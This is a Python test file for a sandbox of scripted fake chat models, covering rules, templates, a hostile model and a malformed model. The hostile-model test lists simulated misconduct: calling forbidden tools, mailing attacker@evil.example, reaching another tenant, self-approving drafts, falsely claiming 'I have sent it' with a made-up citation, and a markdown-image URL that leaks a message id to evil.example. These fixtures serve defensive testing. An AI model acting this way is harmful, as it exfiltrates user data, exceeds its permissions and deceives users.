"""Rules, templates and the built-in models, without HTTP."""

import json
from pathlib import Path
from typing import Any

import pytest

from sandbox.openai import script
from sandbox.openai.conversation import Conversation
from sandbox.openai.hostile import LAST_TURN, UNKNOWN_TOOLS, Hostile
from sandbox.openai.malformed import Malformed
from sandbox.openai.reply import Model, NoRuleError, Reply

SCHEMA: dict[str, Any] = {
    "type": "object",
    "$defs": {"Tone": {"enum": ["warm", "short"]}},
    "properties": {
        "message_id": {"type": "string"},
        "to": {"type": "array", "items": {"type": "string"}},
        "tone": {"$ref": "#/$defs/Tone"},
        "since": {"anyOf": [{"type": "null"}, {"type": "string"}]},
    },
    "required": ["message_id", "tone"],
}
TOOLS = {
    "list_customers": {"type": "object", "properties": {}},
    "search_mail": {"type": "object", "properties": {"query": {"type": "string"}}, "required": ["query"]},
    "draft_reply": SCHEMA,
}


def conversation(*messages: dict[str, Any], tools: bool = True) -> Conversation:
    offered = [{"type": "function", "function": {"name": n, "parameters": s}} for n, s in TOOLS.items()]
    return Conversation.from_request({"messages": list(messages), "tools": offered if tools else []})


def user(text: str) -> dict[str, Any]:
    return {"role": "user", "content": text}


def called(name: str, number: int = 1) -> dict[str, Any]:
    call = {"id": f"c{number}", "type": "function", "function": {"name": name, "arguments": "{}"}}
    return {"role": "assistant", "content": None, "tool_calls": [call]}


def result(text: str, number: int = 1) -> dict[str, Any]:
    return {"role": "tool", "tool_call_id": f"c{number}", "content": text}


def played(model: Model, question: str, *, results: str = "message_id=m7 [1] secret numbers") -> list[Reply]:
    """The model's replies in a loop that answers every tool call, until it stops calling."""
    messages = [user(question)]
    replies: list[Reply] = []
    while not replies or replies[-1].tool_calls:
        replies.append(model.reply(conversation(*messages)))
        calls = [
            {"id": f"{len(replies)}-{i}", "type": "function", "function": {"name": c.name, "arguments": "{}"}}
            for i, c in enumerate(replies[-1].tool_calls)
        ]
        messages.append({"role": "assistant", "content": "", "tool_calls": calls})
        messages += [{"role": "tool", "tool_call_id": c["id"], "content": results} for c in calls]
        assert len(replies) < 50
    return replies


def test_the_first_rule_that_holds_answers() -> None:
    model = script.parse(
        """
        - when: {last_role: tool, tool: search_mail}
          reply: {content: "after search"}
        - when: {last_user: "RENEWAL", turn: 2}
          reply: {content: "second turn"}
        - when: {last_user: "renewal", has_tools: false}
          reply: {content: "no tools"}
        - reply: {content: "anything"}
        """
    )
    question = user("the renewal?")
    searched = (question, called("search_mail"), result("x"))
    assert model.reply(conversation(*searched)).content == "after search"
    assert model.reply(conversation(question, called("draft_reply"), result("x"))).content == "second turn"
    assert model.reply(conversation(question, tools=False)).content == "no tools"
    assert model.reply(conversation(question)).content == "anything"


def test_a_once_rule_is_consumed_and_then_nothing_is_left() -> None:
    model = script.parse('[{"once": true, "reply": {"content": "first"}}]')
    assert model.reply(conversation(user("a"))).content == "first"
    with pytest.raises(NoRuleError):
        model.reply(conversation(user("a")))


def test_otherwise_names_who_answers_the_rest() -> None:
    model = script.from_value({"rules": [], "otherwise": "assistant"})
    assert model.reply(conversation(user("find it"))).tool_calls[0].name == "search_mail"


def test_templates_cite_what_the_tools_gave_newest_first() -> None:
    rule = {
        "reply": {
            "content": r"{{last_user}}: {{tool:id=(m\d{2})}}",
            "tool_calls": [{"name": "draft_reply", "arguments": {"message_id": r"{{tool:id=(\w+)}}", "n": [1]}}],
        }
    }
    messages = (user("¿eh?"), called("a"), result("id=m11"), called("b", 2), result("id=m22", 2))
    reply = script.from_value([rule]).reply(conversation(*messages))
    assert reply.content == "¿eh?: m22"
    assert reply.tool_calls[0].arguments == {"message_id": "m22", "n": [1]}
    assert script.from_value([rule]).reply(conversation(user("x"))).content == "x: "


@pytest.mark.parametrize(
    "text",
    [
        "- reply: {content: '{{tool:no group}}'}",
        "- reply: {content: '{{tool:(a)(b)}}'}",
        "- when: {last_user: '('}\n  reply: {}",
        "- reply: {contents: typo}",
        "just words",
        "- [",
        "42",
    ],
)
def test_wrong_scripts_are_one_sentence(text: str) -> None:
    with pytest.raises(script.ScriptError, match="script"):
        script.parse(text)


def test_a_script_file_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(script.ScriptError, match="cannot be read"):
        script.load(str(tmp_path / "none.yaml"))


def test_a_script_file_is_read_as_utf8(tmp_path: Path) -> None:
    path = tmp_path / "script.yaml"
    path.write_text('- reply: {content: "Renovación"}', encoding="utf-8")
    assert script.load(str(path)).reply(conversation(user("?"))).content == "Renovación"


def test_the_assistant_searches_before_it_drafts_with_the_id_it_found() -> None:
    replies = played(script.load(None), "Draft a reply to Maria")
    assert [reply.tool_calls[0].name for reply in replies[:-1]] == ["search_mail", "draft_reply"]
    assert replies[1].tool_calls[0].arguments == {"message_id": "m7", "tone": "warm"}
    assert replies[-1].content == "message_id=m7 [1] secret numbers"


def test_the_assistant_is_honest_about_nothing() -> None:
    content = played(script.load(None), "Anything?", results="")[-1].content
    assert content is not None
    assert "Not found" in content


def test_hostile_tries_every_tool_and_every_forbidden_one_then_lies() -> None:
    replies = played(Hostile(), "Summarize")
    assert len(replies) == LAST_TURN
    tried = {call.name for reply in replies for call in reply.tool_calls}
    assert tried == {*TOOLS, *UNKNOWN_TOOLS}
    everything = json.dumps([reply.model_dump() for reply in replies])
    for attack in ("attacker@evil.example", "other-tenant", "approve_draft", '"approved": true'):
        assert attack in everything
    lies = replies[-1].content or ""
    assert "![x](http://evil.example/?q=message_id%3Dm7" in lies
    assert "I have sent it" in lies
    assert "[99]" in lies


def test_hostile_without_tools_lies_at_once() -> None:
    assert "I have sent it" in (Hostile().reply(conversation(user("hi"), tools=False)).content or "")


def test_malformed_breaks_the_protocol_in_every_way_and_stops() -> None:
    replies = played(Malformed(), "hi")
    calls = [call for reply in replies for call in reply.tool_calls]
    assert any(call.name == "no_such_tool" for call in calls)
    broken = [call.arguments for call in calls if isinstance(call.arguments, str)]
    assert '["a list, not an object"]' in broken
    with pytest.raises(ValueError, match="Unterminated"):
        json.loads(broken[0])
    assert replies[-1].content == ""
    endings = [Malformed().reply(conversation(*[user("q")] * n, tools=False)) for n in range(1, 6)]
    assert {ending.finish for ending in endings} == {"stop", "length", "content_filter"}
